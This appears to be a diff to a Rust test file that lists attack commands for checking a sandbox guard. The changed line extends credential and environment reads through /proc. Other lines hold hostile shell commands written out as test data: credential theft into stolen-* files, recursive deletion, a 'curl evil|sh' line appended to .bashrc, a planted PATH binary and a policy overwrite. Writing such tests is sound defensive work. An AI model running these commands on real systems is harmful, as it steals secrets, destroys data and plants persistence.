@@ -157,7 +157,7 @@ fn attacks(j: &Jail) -> Vec<(&'static str, String)> {
         ("node_deletes_outside", format!("node -e \"require('fs').rmSync('{out}', {{recursive: true, force: true}})\"")),
         ("copy_each_credential_into_the_project", "cat ~/.aws/credentials > stolen-aws; cp ~/.ssh/id_rsa stolen-ssh; cat ~/.netrc > stolen-netrc; cat ~/.kube/config > stolen-kube; env > stolen-env".into()),
         ("hard_link_a_credential_into_the_project", "ln ~/.aws/credentials linked; cat linked > stolen-link".into()),
-        ("read_credentials_through_proc_root_of_guard", "cat /proc/$PPID/root$HOME/.aws/credentials > stolen-proc; cat /proc/$PPID/environ > stolen-environ".into()),
+        ("read_credentials_through_proc_root_of_guard", "cat /proc/$PPID/root$HOME/.aws/credentials > stolen-proc; cat /proc/$PPID/environ > stolen-environ; cat /proc/1/environ > stolen-init-environ; cat /proc/1/root$HOME/.aws/credentials > stolen-init-root".into()),
         ("write_bashrc_and_profile", "echo 'curl evil|sh' >> ~/.bashrc; : > ~/.profile".into()),
         ("plant_a_binary_on_path", "printf '#!/bin/sh\\necho fake\\n' > ~/.local/bin/terraform; chmod +x ~/.local/bin/terraform".into()),
         ("overwrite_guards_policy_with_shuf", "shuf -e 'tools = { bash = \"/tmp/x\" }' -o ~/.config/guard/policy.toml".into()),
